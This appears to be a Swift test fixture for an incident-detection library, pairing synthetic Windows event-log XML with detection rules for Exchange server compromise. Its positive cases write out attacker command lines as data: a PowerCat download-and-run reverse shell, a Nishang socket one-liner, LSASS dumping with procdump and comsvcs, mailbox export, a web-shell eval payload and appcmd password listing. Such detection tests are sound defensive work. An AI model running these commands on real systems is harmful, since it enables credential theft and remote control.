import Foundation
@testable import IncidentCore

/// Builds one event's XML in the shape libevtx writes it.
enum EventXML {
    static func escape(_ s: String) -> String {
        s.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;").replacingOccurrences(of: "\"", with: "&quot;")
    }

    /// - Parameter data: `EventData` values; a nil name writes an unnamed `<Data>`.
    static func make(provider: String, id: Int, level: Int = 4, channel: String = "Application",
                     time: String = "2021-03-03T04:00:00.000000000Z", data: [(String?, String)]) -> String {
        let items = data.map { name, value in
            "    <Data\(name.map { " Name=\"\($0)\"" } ?? "")>\(escape(value))</Data>"
        }.joined(separator: "\n")
        return """
        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
          <System>
            <Provider Name="\(provider)"/>
            <EventID>\(id)</EventID>
            <Level>\(level)</Level>
            <TimeCreated SystemTime="\(time)"/>
            <EventRecordID>1</EventRecordID>
            <Channel>\(channel)</Channel>
            <Computer>EXCH01.contoso.local</Computer>
          </System>
          <EventData>
        \(items)
          </EventData>
        </Event>
        """
    }

    static let sysmon = "Microsoft-Windows-Sysmon"
    static let security = "Microsoft-Windows-Security-Auditing"

    /// Sysmon process creation (event 1).
    static func process(_ image: String, _ commandLine: String, parent: String, parentCommandLine: String = "", user: String = "NT AUTHORITY\\SYSTEM") -> String {
        make(provider: sysmon, id: 1, channel: "Microsoft-Windows-Sysmon/Operational",
             data: [("Image", image), ("CommandLine", commandLine), ("User", user), ("ParentImage", parent), ("ParentCommandLine", parentCommandLine)])
    }

    /// Security 4688 process creation (no parent command line).
    static func process4688(_ image: String, _ commandLine: String, parent: String) -> String {
        make(provider: security, id: 4688, level: 0, channel: "Security",
             data: [("NewProcessName", image), ("CommandLine", commandLine), ("ParentProcessName", parent)])
    }

    /// Sysmon file creation (event 11).
    static func fileCreate(_ image: String, _ target: String) -> String {
        make(provider: sysmon, id: 11, channel: "Microsoft-Windows-Sysmon/Operational", data: [("Image", image), ("TargetFilename", target)])
    }

    static func group(_ id: Int, name: String, sid: String) -> String {
        make(provider: security, id: id, level: 0, channel: "Security",
             data: [("MemberName", "CN=x,CN=Users,DC=contoso,DC=local"), ("TargetUserName", name), ("TargetSid", sid)])
    }
}

extension RuleCase {
    static func evt(_ target: String, _ hit: Bool, _ name: String, _ xml: String, _ expected: Set<String>) -> RuleCase {
        RuleCase(target: target, hit: hit, name: name, format: .windowsEvtx, lines: [xml], expected: expected)
    }
}

extension RuleCases {
    static let um = "MSExchange Unified Messaging"
    static let umWorker = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"
    static let w3wp = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
    static let exchangePool = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeECPAppPool\" -v \"v4.0\""
    static let cmd = "C:\\Windows\\System32\\cmd.exe"
    static let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

    static let evtx: [RuleCase] = [
        .evt("EV-017", true, "UM error with InvalidCastException",
             EventXML.make(provider: um, id: 1051, level: 2, data: [(nil, "System.InvalidCastException: Unable to cast object")]), ["EV-017"]),
        .evt("EV-017", false, "UM warning (level 3) with the same text",
             EventXML.make(provider: um, id: 1051, level: 3, data: [(nil, "System.InvalidCastException: Unable to cast object")]), []),
        .evt("EV-018", true, "Watson report of the UM worker with the gadget type",
             EventXML.make(provider: "MSExchange Common", id: 4999, level: 2, data: [(nil, "UMWorkerProcess"), (nil, "TextFormattingRunProperties")]), ["EV-018"]),
        .evt("EV-018", false, "Watson report of the UM worker without the gadget",
             EventXML.make(provider: "MSExchange Common", id: 4999, level: 2, data: [(nil, "UMWorkerProcess"), (nil, "System.NullReferenceException")]), []),
        .evt("EV-019", true, "unhandled exception in a UM worker process",
             EventXML.make(provider: um, id: 1000, level: 2, data: [(nil, "An unhandled exception occurred in a UM worker process: System.ArgumentException")]), ["EV-019"]),
        .evt("EV-019", false, "UM worker out of memory",
             EventXML.make(provider: um, id: 1000, level: 2, data: [(nil, "An unhandled exception occurred in a UM worker process: System.OutOfMemoryException")]), []),
        .evt("EV-014", true, "cmdlet log: OAB ExternalUrl with eval(Request",
             EventXML.make(provider: "MSExchange CmdletLogs", id: 1, channel: "MSExchange Management",
                           data: [(nil, "Set-OabVirtualDirectory"), (nil, "-ExternalUrl \"http://x/<script>eval(Request[\\\"a\\\"])</script>\"")]), ["EV-014"]),
        .evt("EV-014", false, "cmdlet log: OAB ExternalUrl set to a real URL",
             EventXML.make(provider: "MSExchange CmdletLogs", id: 1, channel: "MSExchange Management",
                           data: [(nil, "Set-OabVirtualDirectory"), (nil, "-ExternalUrl \"https://mail.contoso.com/OAB\"")]), []),
        .evt("PR-020", true, "UMWorkerProcess starts powershell", EventXML.process(ps, "powershell -nop", parent: umWorker), ["PR-020"]),
        .evt("PR-020", false, "UMWorkerProcess starts WerFault", EventXML.process("C:\\Windows\\System32\\WerFault.exe", "WerFault.exe -u", parent: umWorker), []),
        .evt("PR-021", true, "UMWorkerProcess writes an aspx",
             EventXML.fileCreate(umWorker, "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx"), ["PR-021"]),
        .evt("PR-021", false, "UMWorkerProcess writes its cleanup file",
             EventXML.fileCreate(umWorker, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\UnifiedMessaging\\temp\\CacheCleanup.bin"), []),
        .evt("PR-022", true, "Exchange snap-in from a command line",
             EventXML.process(ps, "powershell.exe -c Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-Mailbox | New-MailboxExportRequest", parent: cmd), ["PR-022"]),
        .evt("PR-022", false, "other snap-in",
             EventXML.process(ps, "powershell.exe -c Add-PSSnapin SqlServerCmdletSnapin100", parent: cmd), []),
        .evt("PR-023", true, "procdump of lsass",
             EventXML.process("C:\\root\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp", parent: cmd), ["PR-023"]),
        .evt("PR-023", false, "procdump of another process",
             EventXML.process("C:\\root\\procdump64.exe", "procdump64.exe -accepteula -ma w3wp.exe C:\\temp\\w3wp.dmp", parent: cmd), []),
        .evt("PR-024", true, "comsvcs MiniDump",
             EventXML.process("C:\\Windows\\System32\\rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll MiniDump 624 C:\\inetpub\\wwwroot\\aspnet_client\\l.dmp full", parent: cmd), ["PR-024"]),
        .evt("PR-024", false, "rundll32 of something else",
             EventXML.process("C:\\Windows\\System32\\rundll32.exe", "rundll32 shell32.dll,Control_RunDLL", parent: "C:\\Windows\\explorer.exe"), []),
        .evt("PR-025", true, "PowerCat download",
             EventXML.process(ps, "powershell IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 10.0.0.9 -p 443 -e powershell", parent: cmd), ["PR-025"]),
        .evt("PR-025", false, "a script named cat",
             EventXML.process(ps, "powershell -File C:\\scripts\\cat.ps1", parent: cmd), []),
        .evt("PR-026", true, "Nishang one-liner",
             EventXML.process(ps, "powershell -c \"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.9',443)\"", parent: cmd), ["PR-026"]),
        .evt("PR-026", false, "web client only",
             EventXML.process(ps, "powershell -c \"(New-Object System.Net.WebClient).DownloadFile('https://contoso.com/a','a')\"", parent: cmd), []),
        .evt("PR-027", true, "attrib hides an aspx",
             EventXML.process("C:\\Windows\\System32\\attrib.exe", "attrib +h +s +r C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx", parent: cmd), ["PR-027"]),
        .evt("PR-027", false, "attrib hides a log",
             EventXML.process("C:\\Windows\\System32\\attrib.exe", "attrib +h +s +r C:\\logs\\a.log", parent: cmd), []),
        .evt("PR-028", true, "cd into aspnet_client",
             EventXML.process(cmd, "cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&dir", parent: cmd), ["PR-028"]),
        .evt("PR-028", false, "cd into wwwroot",
             EventXML.process(cmd, "cmd.exe /c cd /d C:\\inetpub\\wwwroot&dir", parent: cmd), []),
        .evt("PR-029", true, "7-Zip into ProgramData\\pst",
             EventXML.process("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z -mx9 C:\\Programdata\\pst\\out.7z C:\\Programdata\\pst\\*.pst", parent: cmd), ["PR-029"]),
        .evt("PR-029", false, "7-Zip elsewhere",
             EventXML.process("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z D:\\backup\\logs.7z D:\\logs", parent: cmd), []),
        .evt("PR-030", true, "vssadmin into Temp\\__output",
             EventXML.process(cmd, "cmd.exe /Q /c vssadmin list shadows 1> \\Windows\\Temp\\__output 2>&1", parent: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"), ["PR-030"]),
        .evt("PR-030", false, "vssadmin by an administrator",
             EventXML.process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows", parent: cmd), []),
        .evt("PR-031", true, "Opera_browser.exe in Users\\Public",
             EventXML.process("C:\\Users\\Public\\opera\\Opera_browser.exe", "Opera_browser.exe", parent: "C:\\Windows\\System32\\services.exe"), ["PR-031"]),
        .evt("PR-031", false, "the real Opera",
             EventXML.process("C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe", "opera.exe", parent: "C:\\Windows\\explorer.exe"), []),
        .evt("PR-032", true, "Exchange app pool starts cmd.exe",
             EventXML.process(cmd, "cmd /c whoami", parent: w3wp, parentCommandLine: exchangePool), ["PR-032"]),
        .evt("PR-032", false, "Exchange app pool starts csc.exe (ASP.NET compilation)",
             EventXML.process("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig", parent: w3wp, parentCommandLine: exchangePool), []),
        .evt("PR-075", true, "Security 4688: w3wp starts powershell", EventXML.process4688(ps, "powershell -enc AAAA", parent: w3wp), ["PR-075"]),
        .evt("PR-075", false, "w3wp starts conhost", EventXML.process("C:\\Windows\\System32\\conhost.exe", "conhost.exe 0xffffffff", parent: w3wp, parentCommandLine: "w3wp.exe -ap \"DefaultAppPool\""), []),
        .evt("PR-072", true, "China Chopper framing",
             EventXML.process(cmd, "cmd /c \"cd /d c:\\windows\\temp\"&ipconfig&echo [S]&cd&echo [E]", parent: w3wp, parentCommandLine: exchangePool), ["PR-032", "PR-072"]),
        .evt("PR-072", false, "a plain echo",
             EventXML.process(cmd, "cmd /c echo hello", parent: "C:\\Windows\\explorer.exe"), []),
        .evt("PR-076", true, "appcmd lists vdir passwords as an app pool",
             EventXML.process("C:\\Windows\\System32\\inetsrv\\appcmd.exe", "appcmd.exe list vdir /text:password", parent: ps, user: "IIS APPPOOL\\DefaultAppPool"), ["PR-076"]),
        .evt("PR-076", false, "appcmd run by an administrator",
             EventXML.process("C:\\Windows\\System32\\inetsrv\\appcmd.exe", "appcmd.exe list vdir /text:password", parent: ps, user: "CONTOSO\\admin"), []),
        .evt("FW-073", true, "w3wp writes an aspx into owa\\auth",
             EventXML.fileCreate(w3wp, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx"), ["FW-073"]),
        .evt("FW-073", false, "w3wp writes to Temporary ASP.NET Files",
             EventXML.fileCreate(w3wp, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\a.dll"), []),
        .evt("AC-071", true, "user created",
             EventXML.make(provider: EventXML.security, id: 4720, level: 0, channel: "Security", data: [("TargetUserName", "svc2")]), ["AC-071"]),
        .evt("AC-071", false, "user deleted (4726)",
             EventXML.make(provider: EventXML.security, id: 4726, level: 0, channel: "Security", data: [("TargetUserName", "svc2")]), []),
        .evt("AC-074", true, "added to Domain Admins", EventXML.group(4728, name: "Domain Admins", sid: "S-1-5-21-1-2-3-512"), ["AC-074"]),
        .evt("AC-074", false, "added to a project group", EventXML.group(4728, name: "Project X", sid: "S-1-5-21-1-2-3-4512"), []),
        .evt("AC-075", true, "added to Exchange Trusted Subsystem", EventXML.group(4756, name: "Exchange Trusted Subsystem", sid: "S-1-5-21-1-2-3-1119"), ["AC-075"]),
        .evt("AC-075", false, "removed from Organization Management (4757)", EventXML.group(4757, name: "Organization Management", sid: "S-1-5-21-1-2-3-1104"), []),
    ]
}
